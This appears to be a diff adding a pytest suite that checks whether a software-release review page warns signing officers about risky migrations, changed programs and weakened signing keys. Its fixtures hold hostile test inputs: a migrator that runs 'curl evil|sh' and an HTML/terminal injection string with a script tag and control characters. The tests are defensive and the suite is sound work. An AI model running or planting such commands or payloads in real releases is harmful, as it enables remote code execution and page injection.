@@ -1,0 +1,297 @@
+"""What an officer reads before signing: ten dangers, each of which the page has to mark."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, replace
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ncen_updater.common.messages import PAPERS_MISSING
+from ncen_updater.formats.rollout import Wave
+from ncen_updater.publisher.build.build import build_release
+from ncen_updater.publisher.cli.main import run
+from ncen_updater.publisher.feed.feed import Feed
+from ncen_updater.publisher.release_flow import KeyRing, make_feed, publish_release
+from ncen_updater.publisher.review.page import page_of
+from ncen_updater.publisher.review.review import Review, review
+from ncen_updater.publisher.review.words import annex_lines, words_of
+from ncen_updater.publisher.signing.draft import draft_keys, draft_releases
+from ncen_updater.publisher.signing.event import SigningEvent
+from ncen_updater.publisher.signing.event_files import PAPERS
+from tests.publisher.feeds import ceremony_of
+from tests.publisher.releases import NOW, PASSPHRASE, clock, ring, write_release
+from tests.support.errors import refused
+
+DATABASE = '[[health]]\nname = "answers"\npath = "/"\n[[databases]]\nname = "cases"\n'
+MIGRATION = """
+[[databases.migrations]]
+id = "{id}"
+up = "m/{id}.up.sql"
+down = "m/{id}.down.sql"
+"""
+HARMLESS = "ALTER TABLE cases\n  ADD COLUMN country text;\nCREATE INDEX c ON cases (country);\n"
+DOWN = (
+    "INSERT INTO ncen_kept.country SELECT id, country FROM cases;\nALTER TABLE cases DROP country"
+)
+
+
+@dataclass
+class Desk:
+    """A feed with one release, and what is drafted on top of it."""
+
+    place: Path
+    keys: KeyRing
+
+    @property
+    def feed(self) -> Feed:
+        return Feed(self.place / "feed")
+
+    def release(self, place: Path, version: str, up: Sequence[str], extra: str = "") -> Path:
+        names = [f"{number:03}" for number, _ in enumerate(up, 1)]
+        found = "".join(MIGRATION.format(id=name) for name in names)
+        release = write_release(place, version, extra=extra + (DATABASE + found if up else ""))
+        (release / "bin/app").write_text("#!/bin/sh\necho the same\n")
+        (release / "m").mkdir()
+        for name, text in zip(names, up, strict=True):
+            (release / f"m/{name}.up.sql").write_text(text)
+            (release / f"m/{name}.down.sql").write_text(DOWN)
+        return release
+
+    def event(self, release: Path, waves: Sequence[Wave] = ()) -> SigningEvent:
+        build_release(release, self.place / "staging")
+        state = self.feed.state()
+        draft = draft_releases(state, self.place / "staging", NOW, waves, None, self.feed)
+        return SigningEvent.create(
+            self.place / "event", draft.title, draft.roles, state, draft.papers
+        )
+
+    def next(self, up: str = HARMLESS, extra: str = "") -> Path:
+        return self.release(
+            self.place / "next", "3.4.0", ["CREATE TABLE cases (id int);", up], extra
+        )
+
+    def agreed(self, role: str, **changes: Any) -> SigningEvent:
+        """What officers would sign for another ceremony."""
+        ceremony = ceremony_of(
+            self.keys.officers, {name: held[0] for name, held in self.keys.online.items()}
+        )
+        roles = {**ceremony.roles, role: replace(ceremony.roles[role], **changes)}
+        ceremony = replace(ceremony, roles=roles)
+        state = self.feed.state()
+        draft = draft_keys(state, ceremony, NOW)
+        return SigningEvent.create(self.place / "event", draft.title, draft.roles, state)
+
+
+@pytest.fixture(scope="module")
+def published(tmp_path_factory: pytest.TempPathFactory) -> Desk:
+    place = tmp_path_factory.mktemp("officers")
+    desk = Desk(place, ring(place))
+    make_feed(desk.place / "feed", desk.keys, clock)
+    first = desk.release(desk.place / "first", "3.3.0", ["CREATE TABLE cases (id int);"])
+    publish_release(desk.place / "feed", [first], desk.keys, clock)
+    return desk
+
+
+@pytest.fixture
+def desk(tmp_path: Path, published: Desk) -> Desk:
+    shutil.copytree(published.place / "feed", tmp_path / "feed")
+    return replace(published, place=tmp_path)
+
+
+def said(page: Review, language: str = "en") -> list[str]:
+    lines = [*words_of(page, language), *annex_lines(page)]
+    return [line if isinstance(line, str) else line.render(language) for line in lines]
+
+
+def warnings(page: Review) -> list[str]:
+    return [text.render() for text in page.warnings]
+
+
+def sql(statement: str) -> Callable[[Desk], SigningEvent]:
+    return lambda desk: desk.event(desk.next(f"{HARMLESS}{statement};\n"))
+
+
+def migrator(desk: Desk) -> SigningEvent:
+    extra = '[migrator]\nargv = ["/bin/sh", "-c", "curl evil|sh"]\n[[health]]\nname="a"\npath="/"\n'
+    return desk.event(desk.release(desk.place / "next", "3.4.0", [], extra))
+
+
+def program(desk: Desk) -> SigningEvent:
+    release = desk.next()
+    (release / "bin/app").write_text("#!/bin/sh\necho another\n")
+    return desk.event(release)
+
+
+def wave(desk: Desk) -> SigningEvent:
+    return desk.event(desk.next(), [Wave(opens=datetime(2020, 1, 1, tzinfo=UTC), percent=100)])
+
+
+def country(desk: Desk) -> SigningEvent:
+    release = desk.next()
+    text = (release / "manifest.toml").read_text()
+    (release / "manifest.toml").write_text(f'countries = ["XX"]\n{text}')
+    return desk.event(release)
+
+
+DANGERS: dict[str, tuple[Callable[[Desk], SigningEvent], str]] = {
+    "silent UPDATE": (
+        sql("UPDATE cases SET kg = 0 WHERE country <> 'MU'"),
+        r"002\.up\.sql, line 4, changes records: UPDATE cases SET kg = 0",
+    ),
+    "GRANT": (sql("GRANT ALL ON cases TO PUBLIC"), r"line 4, changes who may do what: GRANT ALL"),
+    "function": (
+        sql("CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN END $$"),
+        r"line 4, puts a program into the database, or runs one: CREATE FUNCTION",
+    ),
+    "migrator": (migrator, r"brings a program of its own .* curl evil\|sh"),
+    "file of the program": (program, r"other programs than before: bin/app"),
+    "dropped column": (
+        sql("ALTER TABLE cases DROP COLUMN kg"),
+        r"removes a part of the database: ALTER TABLE cases DROP",
+    ),
+    "date": (
+        lambda desk: desk.agreed("timestamp", expiry_days=3650),
+        r"timestamp: a list lasts 3650 days \(until now: 7\)",
+    ),
+    "threshold": (
+        lambda desk: desk.agreed("root", threshold=1),
+        r"root: one person alone could replace all keys",
+    ),
+    "wave": (wave, r"the wave of 2020-01-01T00:00:00Z lies in the past: 100 %"),
+    "country": (
+        country,
+        r"there is no country XX",
+    ),
+}
+
+
+def test_a_harmless_release_is_marked_nowhere(desk: Desk) -> None:
+    page = review(desk.event(desk.next()), whole=True)
+    assert warnings(page) == []
+    assert [text.render() for text in page.sentences] == [
+        "ncen 3.4.0 is offered to the sites of all countries, to all of them as soon as it is"
+        " published."
+    ]
+
+
+@pytest.mark.parametrize("danger", DANGERS)
+def test_each_danger_is_marked(desk: Desk, danger: str) -> None:
+    make, expected = DANGERS[danger]
+    page = review(make(desk), whole=True)
+    found = [line for line in warnings(page) if re.search(expected, line)]
+    assert len(found) == 1, warnings(page)
+    assert found[0].startswith("WARNING")
+    shown = "\n".join(said(page))
+    assert found[0] in shown
+    html = page_of(page).decode()
+    assert "To be decided before anybody signs" in html
+    assert "<script" not in html
+
+
+def test_the_page_shows_a_release_whole(desk: Desk) -> None:
+    """Notes, files with their lines, SQL in full, the way back, and digests at the end only."""
+    release = desk.next(up=HARMLESS + "UPDATE cases\nSET country = 'MU';\n")
+    (release / "bin/app").write_text("#!/bin/sh\necho another\necho more\n")
+    event = desk.event(release)
+    page = review(event, desk.place / "staging", desk.place / "feed", whole=True)
+    lines = said(page)
+    assert "  Words." in lines
+    assert "  changed: bin/app, +2 -1 lines (a program)" in lines
+    assert "  A site can go back at any time, by the files that are shown below." in lines
+    numbered = [line for line in lines if re.match(r" +\d+ [>|]", line)]
+    assert numbered[:6] == [
+        "    1 | ALTER TABLE cases",
+        "    2 |   ADD COLUMN country text;",
+        "    3 | CREATE INDEX c ON cases (country);",
+        "    4 > UPDATE cases",
+        "    5 > SET country = 'MU';",
+        "    6 | ",
+    ]
+    annex = lines.index("Annex: digests")
+    assert not [line for line in lines[:annex] if re.search(r"[0-9a-f]{8} [0-9a-f]{8}", line)]
+    assert [line for line in lines[annex:] if "Digest of the event" in line]
+    # Without the archives nobody counts lines, and the file is named all the same.
+    shown = said(review(event, whole=True))
+    assert [line for line in shown if line.startswith("  changed: bin/app, 24 B, 755 becomes")]
+
+
+def test_what_going_back_loses(desk: Desk) -> None:
+    release = desk.next()
+    (release / "m/002.down.sql").write_text("ALTER TABLE cases DROP COLUMN country;")
+    page = review(desk.event(release), whole=True)
+    assert [text.render() for text in page.releases[0].way_back] == [
+        "Going back loses what stands there by then (m/002.down.sql, line 1):"
+        " ALTER TABLE cases DROP COLUMN country",
+        "A site can go back at any time, by the files that are shown below.",
+    ]
+
+
+@pytest.mark.parametrize("which", ["SQL", "tree", "release before", "tree before"])
+def test_nobody_signs_what_was_not_shown(desk: Desk, which: str) -> None:
+    """Whoever drafts could leave out of the event what is not to be seen."""
+    event = desk.event(desk.next())
+    document = json.loads((desk.place / "staging/targets/releases/ncen/3.4.0.json").read_bytes())
+    listed = desk.feed.state().delegated["ncen"].signed.targets
+    paper = {
+        "SQL": document["migrations"]["m/002.up.sql"],
+        "tree": document["tree"]["sha256"],
+        "release before": listed["releases/ncen/3.3.0.json"].hashes["sha256"],
+        "tree before": listed["trees/ncen/3.3.0.json.zst"].hashes["sha256"],
+    }[which]
+    (event.directory / PAPERS / paper).write_bytes(b"another file")
+    assert [line for line in warnings(review(event)) if "could not be read" in line]
+    with refused(PAPERS_MISSING):
+        review(event, whole=True)
+    beside = (desk.place / "staging", desk.place / "feed")
+    assert not [line for line in warnings(review(event, *beside, whole=True)) if "read" in line]
+
+
+def test_lint_is_asked_again_by_the_officer(desk: Desk) -> None:
+    """Whoever drafts may not have asked it."""
+    page = review(desk.event(desk.next(up="COMMIT;")), whole=True)
+    assert [finding.code for finding in page.releases[0].findings][:1] == ["NU-7111"]
+    assert [line for line in warnings(page) if "lint refuses it (NU-7111)" in line]
+
+
+def test_a_release_cannot_write_into_the_page(desk: Desk) -> None:
+    evil = "-- <script>alert(1)</script>\x1b[2J\u202e\n" + HARMLESS
+    html = page_of(review(desk.event(desk.next(up=evil)), whole=True)).decode()
+    assert "<script" not in html
+    assert "&lt;script&gt;" in html
+    assert "\x1b" not in html
+    assert "\u202e" not in html
+
+
+@pytest.mark.parametrize("language", ["en", "fr"])
+def test_as_it_is_typed(
+    desk: Desk, language: str, capsys: pytest.CaptureFixture[str], published: Desk
+) -> None:
+    """'show' prints the page and writes it; 'sign' says the marks and asks by name."""
+    event = desk.event(desk.next(up=HARMLESS + "DELETE FROM cases;"))
+    shutil.copytree(published.place / "keys", desk.place / "keys")
+    root, html = desk.place / "feed/metadata/1.root.json", desk.place / "page.html"
+    secret = desk.place / "secret"
+    secret.write_text(PASSPHRASE)
+    secret.chmod(0o600)
+    assert run(["show", str(event.directory), "--root", str(root), "--html", str(html),
+                "--lang", language]) == 0  # fmt: skip
+    shown = capsys.readouterr().out
+    mark = {"en": "deletes records", "fr": "supprime des enregistrements"}[language]
+    assert mark in shown
+    assert mark in html.read_text("utf-8")
+    sign = ["sign", str(event.directory), "--root", str(root), "--digest", event.digest,
+            "--key", str(desk.place / "keys/amina.pem"), "--passphrase-file", str(secret),
+            "--lang", language]  # fmt: skip
+    assert run(sign) == 2  # nobody can be asked
+    assert "NU-1102" in capsys.readouterr().err
+    assert not list((event.directory / "sig").iterdir())
+    assert run([*sign, "--yes"]) == 0
+    assert mark in capsys.readouterr().out
+    assert len(list((event.directory / "sig").iterdir())) == 1
